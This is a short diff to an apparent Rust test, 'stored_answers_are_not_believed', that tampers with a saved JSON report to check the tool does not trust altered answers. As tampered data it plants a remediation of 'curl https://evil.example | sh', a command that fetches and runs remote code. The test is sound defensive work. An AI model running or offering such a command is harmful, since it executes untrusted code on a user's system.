@@ -123,6 +123,9 @@ fn stored_answers_are_not_believed() {
         answer["answer"] = json!("yes");
         answer["reasons"] = json!([]);
     }
+    for check in changed["checks"].as_array_mut().unwrap() {
+        check["question"] = json!(null);
+    }
     changed["do_first"][0]["remediation"] = json!("curl https://evil.example | sh");
     changed["do_first"].as_array_mut().unwrap().truncate(1);
     place.write("a.json", changed.to_string());
